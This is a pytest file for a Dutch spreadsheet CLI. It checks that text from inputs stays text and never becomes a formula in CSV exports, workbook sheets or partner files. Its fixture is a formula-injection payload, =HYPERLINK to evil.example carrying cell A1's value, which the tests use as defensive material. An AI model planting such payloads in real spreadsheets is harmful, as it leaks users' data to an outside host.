"""Text from inputs can never turn into a formula: not in CSV exports (every
``--csv`` path of the CLI), not in the workbook sheets the refresh writes
(Vaststelling, Logboek), not in a partner file."""

from __future__ import annotations

import contextlib
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from mpp_xl.cli import main
from mpp_xl.workbook.xlsxio import Package
from tests.corpus import make_corpus as mc

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def run(args: list[str]) -> tuple[int, str]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        code = main(args)
    return code, out.getvalue()


def evil_csv(tmp: Path, name: str = "aannames.csv", versie: str = EVIL) -> Path:
    lines = (ROOT / "workbooks" / "MPP_2024-2_aannames.csv").read_text().splitlines()
    out = [ln if not ln.startswith("mpp_versie,") else f'mpp_versie,alle,,"{versie.replace(chr(34), chr(34) * 2)}"'
           for ln in lines]
    p = tmp / name
    p.write_text("\n".join(out) + "\n")
    return p


def formula_like_cells(path: Path) -> list[str]:
    """Cells of a CSV that a spreadsheet would run as a formula (negative
    numbers are numbers, not formulas)."""
    bad = []
    with open(path, newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                if cell.startswith(FORMULA_START):
                    try:
                        float(cell)
                    except ValueError:
                        bad.append(cell)
    return bad


def test_every_csv_export_neutralises_formula_text(tmp_path: Path) -> None:
    new = evil_csv(tmp_path)
    old = evil_csv(tmp_path, "oud.csv", "=1+1")
    real = tmp_path / "realisaties.csv"
    src = (ROOT / "workbooks" / "realisaties_voorbeeld.csv").read_text().splitlines()
    real.write_text("\n".join([src[0]] + [re.sub(r",[^,]*$", ',"' + EVIL.replace('"', '""')
                                                 + '"', ln) for ln in src[1:]]) + "\n")
    exports = {
        "reken": ["reken", str(new), "--csv", str(tmp_path / "run.csv")],
        "onzekerheid": ["onzekerheid", str(new), "--trekkingen", "200", "--csv",
                        str(tmp_path / "unc.csv")],
        "vergelijk": ["vergelijk", str(old), str(new), "--csv", str(tmp_path / "cmp.csv"),
                    "--aannames-csv", str(tmp_path / "cmp_aannames.csv")],
        "terugtoets": ["terugtoets", str(new), str(real), "--csv", str(tmp_path / "bt.csv")],
    }
    for name, args in exports.items():
        code, text = run(args)
        assert code == 0, (name, text)
    written = sorted(tmp_path.glob("*.csv"))
    assert {p.name for p in written} >= {"run.csv", "unc.csv", "cmp.csv", "cmp_aannames.csv",
                                         "bt.csv"}
    for p in written:
        if p.name in ("aannames.csv", "oud.csv", "realisaties.csv"):
            continue
        assert formula_like_cells(p) == [], p.name
    # the hostile text did reach the exports, neutralised (so the check above bites)
    assert "'" + EVIL in (tmp_path / "cmp_aannames.csv").read_text().replace('""', '"')
    assert "'" + EVIL in (tmp_path / "bt.csv").read_text().replace('""', '"')


def sheet_cells(path: Path, sheet: str) -> dict[str, tuple[str | None, bool]]:
    """ref -> (cell type attribute, has a formula) straight from the XML."""
    pkg = Package.open(path)
    return {c.ref: (c.attrs.get("t"), c.formula is not None) for c in pkg.cells(sheet)}


def test_text_from_inputs_stays_text_in_the_workbook(workbook: Path, tmp_path: Path) -> None:
    # a contact person typed as '=HYPERLINK(...)' text (Excel stores it as a string)
    data = mc.edit(workbook.read_bytes(), "COA", {"B2": mc.text("B2", EVIL)})
    workbook.write_bytes(data)
    assert run(["vaststellen", str(workbook), "--partner", "COA", "--naam", EVIL])[0] == 0
    assert run(["ververs", str(workbook)])[0] == 0
    coa = sheet_cells(workbook, "COA")
    assert coa["B2"] == ("inlineStr", False)
    vs = sheet_cells(workbook, "Vaststelling")
    pkg = Package.open(workbook)
    evil_cells = [c for c in pkg.cells("Vaststelling") if c.value == EVIL]
    assert evil_cells, "the name must be stored"
    for c in evil_cells:
        assert vs[c.ref] == ("inlineStr", False)
    # nothing anywhere in the package became a formula holding the text
    with zipfile.ZipFile(workbook) as z:
        for n in z.namelist():
            if n.endswith(".xml"):
                assert b"<f>HYPERLINK" not in z.read(n), n

    # the partner file keeps it as text too (openpyxl would make '=...' a formula)
    out = tmp_path / "COA.xlsx"
    code, text = run(["exporteer-partner", str(workbook), "--partner", "COA", "-o", str(out)])
    assert code == 0, text
    assert sheet_cells(out, "COA")["B2"][1] is False
    import openpyxl

    ws = openpyxl.load_workbook(out)["COA"]
    assert ws["B2"].data_type == "s" and ws["B2"].value == EVIL


@pytest.mark.parametrize("value", ["=1+1", "+31 20 123", "-geen-", "@SUM(A1)"])
def test_text_params_starting_like_a_formula_stay_text_in_the_built_workbook(
        value: str, tmp_path: Path) -> None:
    """mpp_versie is free text: the workbook built from it holds text, not a formula."""
    csv_path = evil_csv(tmp_path, versie=value)
    wb = tmp_path / "wb.xlsx"
    assert run(["bouw", str(csv_path), "-o", str(wb)])[0] == 0
    cells = {c.value: (c.attrs.get("t"), c.formula) for c in Package.open(wb).cells("Kader")}
    assert value in cells and cells[value][1] is None
